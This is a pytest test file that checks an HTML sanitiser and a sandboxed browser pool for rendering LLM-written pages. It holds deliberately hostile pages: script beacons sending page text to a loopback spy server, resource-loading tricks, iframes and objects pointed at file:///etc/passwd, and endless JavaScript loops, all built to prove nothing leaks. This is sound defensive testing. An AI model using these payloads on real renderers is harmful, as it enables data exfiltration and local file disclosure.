"""Hostile LLM-written pages: each ends as a rendered or rejected record, and nothing leaves the browser.

The "outside host" is a loopback HTTP server owned by the test; every hostile page points at
it, and it must see zero requests. Pages go through both fences (sanitiser + browser) and, to
prove the browser fence on its own, also raw into the pool.
"""

from __future__ import annotations

import asyncio
import contextlib
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import pytest_asyncio

from synthgen.generators.render import Rendered, RenderError, RenderOptions
from synthgen.generators.render.checks import Limits, problems
from synthgen.generators.render.html2image_backend import Html2ImageRenderer
from synthgen.generators.render.pool import BrowserPool, PoolConfig
from synthgen.generators.render.sandbox import UnsafeHtml, sanitize

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]


class Spy:
    """A loopback server standing in for the outside world; it counts every hit."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        spy = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                spy.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                self.wfile.write(b"leaked")

            do_POST = do_GET

            def log_message(self, *_args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def spy():
    s = Spy()
    yield s
    s.close()


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def pool():
    async with BrowserPool(PoolConfig(pages=3, timeout_s=8)) as p:
        yield p


def hostile_pages(url: str) -> dict[str, str]:
    text = "<h1>お知らせ</h1><p>本日の営業は午後八時までです。ご来店をお待ちしております。</p>"
    return {
        "img": f"{text}<img src='{url}/img.png'><img srcset='{url}/set.png 2x'>",
        "fetch": f"{text}<script>fetch('{url}/fetch'); new Image().src='{url}/beacon?d='+document.body.innerText;</script>",
        "css": (f"<style>@import url('{url}/import.css'); @font-face {{font-family: W; src: url({url}/font.woff)}}"
                f" body {{ background: url({url}/bg.png); font-family: W }} h1 {{ background-image: image-set('{url}/set.png' 1x) }}"
                f"</style><link rel='stylesheet' href='{url}/link.css'><link rel='prefetch' href='{url}/pre'>{text}"),
        "file_iframe": f"{text}<iframe src='file:///etc/passwd' width=600 height=400></iframe>"
                       "<object data='file:///etc/passwd'></object><embed src='file:///etc/hostname'>",
        "frames_and_forms": (f"{text}<iframe src='{url}/frame'></iframe><form action='{url}/form' method=post>"
                             f"<button>送信</button></form><meta http-equiv='refresh' content='0;url={url}/refresh'>"
                             f"<a href='{url}/a' style='background:url({url}/a.png)'>リンク</a>"
                             f"<video src='{url}/v.mp4' autoplay></video><audio src='{url}/a.mp3' autoplay></audio>"),
        "endless_js": f"{text}<script>while (true) {{}}</script><body onload='for(;;){{}}'>",
        "tall": f"{text}<div style='height:100000px;background:linear-gradient(#fff,#eee)'>下まで続く</div>",
        "broken": "<html><body><h1>壊れた<b>マークアップ<p>閉じていない<td>表<div></span></html></html><<<>>><p>続きの文章です。",
        "svg": f"{text}<svg><image href='{url}/svg.png'/><script>fetch('{url}/svg')</script></svg>",
        "base_and_ping": f"<base href='{url}/'>{text}<a href='x' ping='{url}/ping'>x</a><img src='relative.png'>",
    }


async def outcome(pool: BrowserPool, html: str) -> str:
    """What the generator does with a page: sanitise, draw, check -> 'rendered' or a reject reason."""
    try:
        document = sanitize(html)
        shot = await pool.render(document, RenderOptions(width=800, height=600, max_height=3000))
    except UnsafeHtml:
        return "unsafe_html"
    except RenderError as exc:
        return exc.reason
    found = problems(shot, Limits(min_chars=10))
    return found[0].reason if found else "rendered"


async def test_hostile_pages_end_rendered_or_rejected_without_any_request(pool, spy):
    pages = hostile_pages(spy.url)
    start = time.perf_counter()
    results = await asyncio.wait_for(
        asyncio.gather(*(outcome(pool, html) for html in pages.values())), timeout=60)
    got = dict(zip(pages, results, strict=True))
    assert got["tall"] == "too_large"
    assert all(v == "rendered" for k, v in got.items() if k != "tall"), got
    assert time.perf_counter() - start < 60
    # The sanitiser removed every URL, so the browser had nothing to even try.
    for name, html in pages.items():
        document = sanitize(html)
        assert spy.url not in document and "file:" not in document, name
        assert "<script" not in document and "<iframe" not in document and "<img" not in document
    assert spy.hits == []


async def test_browser_alone_blocks_raw_hostile_pages(spy):
    """Without the sanitiser: routing, the dead proxy and JS-off still let nothing out.

    A pool of its own: a reused page keeps the CSP of the sanitised document it last drew
    (set_content rewrites the same document), which would hide what the browser fence does alone.
    """
    pages = hostile_pages(spy.url)
    async with BrowserPool(PoolConfig(pages=3, timeout_s=8)) as raw_pool:
        results = await asyncio.wait_for(asyncio.gather(
            *(raw_pool.render(html, RenderOptions(width=800, height=600, max_height=2000)) for html in pages.values()),
            return_exceptions=True), timeout=60)
        await asyncio.sleep(0.3)
        stats = raw_pool.stats
    for name, result in zip(pages, results, strict=True):
        assert isinstance(result, Rendered | RenderError), (name, result)
        if isinstance(result, Rendered):
            assert "root:" not in result.text and "leaked" not in result.text
    by_name = dict(zip(pages, results, strict=True))
    assert by_name["tall"].height == 2000 and by_name["tall"].content_height > 100000
    # The route handler saw (and aborted) the requests the raw pages tried.
    tried = {u.split("?")[0].removeprefix(spy.url) for u in stats.blocked_sample}
    assert {"/img.png", "/bg.png"} <= tried, stats
    assert spy.hits == []


async def test_requests_made_by_scripts_are_blocked_too(spy):
    """With JavaScript switched on (never in real use), fetch/XHR/beacons still end at the route."""
    page = (f"<p>x</p><script>fetch('{spy.url}/fetch').catch(()=>{{}}); navigator.sendBeacon('{spy.url}/beacon', 'd');"
            f"var x = new XMLHttpRequest(); x.open('GET', '{spy.url}/xhr'); x.send();"
            f"new WebSocket('ws://127.0.0.1:{spy.url.rsplit(':', 1)[1]}/ws');</script>")
    async with BrowserPool(PoolConfig(pages=1, timeout_s=5, javascript=True)) as js_pool:
        shot = await js_pool.render(page)
        for _ in range(50):  # the route sees them asynchronously; give it up to 5 s
            tried = {u.rsplit("/", 1)[1] for u in js_pool.stats.blocked_sample}
            if {"fetch", "xhr", "ws"} <= tried:
                break
            await asyncio.sleep(0.1)
        assert {"fetch", "xhr", "ws"} <= tried, js_pool.stats
    assert shot.text.strip() == "x"
    assert spy.hits == []


async def test_html2image_backend_leaks_nothing_either(spy):
    pages = hostile_pages(spy.url)
    async with Html2ImageRenderer(workers=2, timeout_s=20) as h2i:
        sanitized = await h2i.render(sanitize(pages["css"] + pages["img"]), RenderOptions(width=400, height=300))
        with contextlib.suppress(RenderError):  # raw: only the dead proxy and CSP-less chromium; either outcome
            await h2i.render(pages["img"] + pages["css"], RenderOptions(width=400, height=300))
    assert "お知らせ" in sanitized.text and sanitized.image
    assert spy.hits == []


async def test_sanitizer_keeps_layout_css_and_drops_the_rest():
    html = ("<!DOCTYPE html><html><head><title>題</title><style>.v{writing-mode:vertical-rl}"
            "table{border-collapse:collapse} body{background:url(http://x/y.png) #fff}</style></head>"
            "<body class='paper' style='margin:8px' onload='x()'><div class='v'>縦書き<ruby>漢字<rt>かんじ</rt></ruby></div>"
            "<table><tr><td colspan='2' onclick='x()'>品名</td></tr></table><input value='消える'></body></html>")
    doc = sanitize(html)
    assert "writing-mode:vertical-rl" in doc and "border-collapse" in doc and "<ruby>" in doc
    assert '<body style="margin:8px" class="paper">' in doc or '<body class="paper" style="margin:8px">' in doc
    assert 'colspan="2"' in doc and "onclick" not in doc and "onload" not in doc
    assert "題" not in doc and "<input" not in doc and "http://" not in doc
    assert "Content-Security-Policy" in doc and "default-src 'none'" in doc
    with pytest.raises(UnsafeHtml):
        sanitize("<script>only a script</script>")
    with pytest.raises(UnsafeHtml):
        sanitize("<p>" + "あ" * 400_000 + "</p>")
    assert "</style><script>" not in sanitize("<style>p{} </style><script>alert(1)</script><p>x</p>")
